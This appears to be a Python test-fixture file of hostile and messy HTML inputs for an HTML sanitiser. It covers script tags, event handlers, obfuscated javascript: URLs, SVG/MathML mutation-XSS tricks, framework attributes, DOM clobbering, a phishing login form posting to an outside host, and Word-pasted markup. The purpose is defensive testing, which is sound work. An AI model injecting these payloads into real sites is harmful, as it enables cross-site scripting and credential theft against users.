"""Hostile and merely messy HTML, by class. Each must come out dead, and the same when cleaned again."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.se/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//x.se/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=attachment href=file:///etc/passwd>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>text</p>",
    "<p ONMOUSEOVER = 'alert(1)'>text</p>",
    "<body onload=alert(1)>text",
    "<p/onclick=alert(1)>text",
    "<p\x0conclick=alert(1)>text",
    "<details open ontoggle=alert(1)>text",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<table background=javascript:alert(1)><tr><td>text",
]
SCHEMES = [
    '<a href="javascript:alert(1)">text</a>',
    '<a href="JaVaScRiPt:alert(1)">text</a>',
    '<a href="java\tscript:alert(1)">text</a>',
    '<a href="java\nscript:alert(1)">text</a>',
    '<a href=" &#14; javascript:alert(1)">text</a>',
    '<a href="&#106;&#97;vascript:alert(1)">text</a>',
    '<a href="javascript&colon;alert(1)">text</a>',
    '<a href="jav&#x0A;ascript:alert(1)">text</a>',
    '<a href="\x01javascript:alert(1)">text</a>',
    '<a href="data:text/html,<script>alert(1)</script>">text</a>',
    '<a href="vbscript:msgbox(1)">text</a>',
    '<a href="file:///etc/passwd">text</a>',
    '<a xlink:href="javascript:alert(1)">text</a>',
]
FOREIGN = [
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
]
FRAMEWORKS = [
    '<p hx-get="/x" hx-trigger="load">text</p>',
    '<p data-hx-post="/x">text</p>',
    '<p hx-on:click="alert(1)">text</p>',
    '<p x-data x-init="alert(1)">text</p>',
    '<p _="on load call alert(1)">text</p>',
    '<p :onclick="alert(1)" @click="alert(1)">text</p>',
]
CLOBBERING = [
    '<a id="location" name="location">text</a>',
    "<form id=x><input name=attributes></form>",
    "<button formaction=javascript:alert(1)>text</button>",
    '<form action="https://x.se"><input type=password><button>Logga in</button></form>',
    '<p class="toast" style="position:fixed;inset:0" lang="x" title="x" dir="rtl" tabindex="1">text</p>',
    "<style>@import url(//x.se)</style>",
    '<p style="background:url(//x.se)">text</p>',
]
OFFICE = [
    '<p class=MsoNormal><span style="mso-fareast-language:SV">Text<o:p></o:p></span></p>',
    "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->Text",
    "<p>" + "<span lang=SV>ord </span>" * 300 + "</p>",
    "<table class=MsoTableGrid border=1><colgroup><col width=64></colgroup><tr><td width=64 x:num>1</td></tr></table>",
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<p style="mso-list:l0 level1 lfo1"><![if !supportLists]><span>·</span><![endif]>punkt</p>',
]
MOVED_BY_CLEANING = [
    "<p><button><p>text</p></button></p>",
    "<table><tfoot><tr><td>text</td></tr></tfoot></table>",
    "<a href=/x><table><tr><td><a href=/y>text</a></td></tr></table></a>",
    "<table><form><tr><td>text</td></tr></form></table>",
    "<p><object><p>text</p></object></p>",
    "<b><p>text</b>more</p>",
    "<li>text<li>text",
    "<h1>Stor</h1><h6>Liten</h6>",
    "<div>rad</div><div>rad</div>",
    "</p></br><br/>text",
    "<ol><p></ol><table><p>text</table>",
    "<select><option><p>text</select>",
]
ALL = SCRIPTS + HANDLERS + SCHEMES + FOREIGN + FRAMEWORKS + CLOBBERING + OFFICE + MOVED_BY_CLEANING
